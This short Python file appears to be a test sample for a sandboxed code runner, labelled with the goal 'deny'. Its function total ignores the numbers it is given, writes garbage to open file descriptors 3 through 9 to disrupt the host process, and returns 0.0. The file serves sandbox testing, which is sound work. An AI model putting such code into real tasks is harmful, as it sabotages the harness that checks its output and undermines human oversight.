"""Write garbage to the descriptors that are open, and go on."""
# goal: deny
import os


def total(numbers):
    for descriptor in range(3, 10):
        try:
            os.write(descriptor, b"garbage" * 10)
        except OSError:
            pass
    return 0.0
